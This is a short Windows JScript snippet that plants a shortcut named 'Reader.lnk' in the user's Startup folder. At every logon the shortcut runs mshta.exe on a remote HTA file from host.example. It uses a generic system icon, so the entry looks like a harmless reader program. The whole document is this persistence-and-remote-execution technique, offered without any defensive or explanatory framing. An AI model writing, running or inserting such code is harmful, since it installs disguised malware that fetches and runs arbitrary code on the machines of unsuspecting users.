var shell = new ActiveXObject("WScript.Shell");
var link = shell.CreateShortcut(shell.SpecialFolders("Startup") + "\\Reader.lnk");
link.TargetPath = "mshta.exe";
link.Arguments = "http://host.example/reader.hta";
link.IconLocation = "shell32.dll,1";
link.Save();
